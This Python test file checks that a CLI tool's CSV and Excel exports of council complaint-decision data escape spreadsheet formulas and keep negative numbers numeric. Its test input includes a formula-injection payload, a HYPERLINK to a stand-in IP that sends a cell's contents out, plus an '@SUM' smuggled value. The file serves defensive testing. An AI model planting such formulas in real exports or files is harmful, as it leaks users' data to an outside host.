"""Exports are safe to open in a spreadsheet: text that would run as a formula is text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl

from tests.conftest import decisions_rows

EVIL = '=HYPERLINK("http://198.51.100.7/?leak="&A1,"click")'


def csv_file(tmp_path: Path, names: list[str]) -> Path:
    """A decisions CSV (text cells stay text, unlike cells openpyxl would write as formulas)."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["Reference", "Authority", "Decision date", "Outcome"])
    for i, n in enumerate(names):
        w.writerow([f"R{i}", n, "2019-05-01", "Upheld"])
    path = tmp_path / "evil.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_csv_output_neutralises_formulas(cli, tmp_path: Path) -> None:
    path = csv_file(tmp_path, [EVIL, "@SUM(A1:A9)"])
    r = cli("compute", path, "-f", "csv")
    assert r.exit_code == 0, r.stderr
    cells = [row[0] for row in csv.reader(io.StringIO(r.stdout))]
    assert "'" + EVIL in cells and "'@SUM(A1:A9)" in cells
    assert EVIL not in cells


def test_negative_numbers_stay_numbers(cli, make_xlsx) -> None:
    path = make_xlsx(
        {
            "D": decisions_rows(
                [
                    ("Medway", "Upheld", 1, None),
                    ("Medway", "Not upheld", 3, None),
                    ("Southampton", "Upheld", 3, None),
                    ("Portsmouth", "Upheld", 2, None),
                ]
            )
        }
    )
    r = cli("compute", path, "-f", "csv")
    header, *rows = list(csv.reader(io.StringIO(r.stdout)))
    medway = next(
        d for d in (dict(zip(header, x, strict=True)) for x in rows) if "Medway" in d["council"]
    )
    # Medway 25% against the unitary mean (25 + 100 + 100) / 3 = 75%: -50.0, a number, not text
    assert medway["uphold_difference"] == "-50.0"


def test_excel_export_stores_formulas_as_text(cli, tmp_path: Path) -> None:
    path = csv_file(tmp_path, [EVIL])
    assert cli("compute", path).exit_code == 0
    out = tmp_path / "all.xlsx"
    r = cli("db", "export", out)
    assert r.exit_code == 0, r.stderr
    wb = openpyxl.load_workbook(out)
    values = [c.value for row in wb["decisions"].iter_rows() for c in row]
    assert "'" + EVIL in values
    for row in wb["decisions"].iter_rows():
        for c in row:
            assert c.data_type != "f", c.value
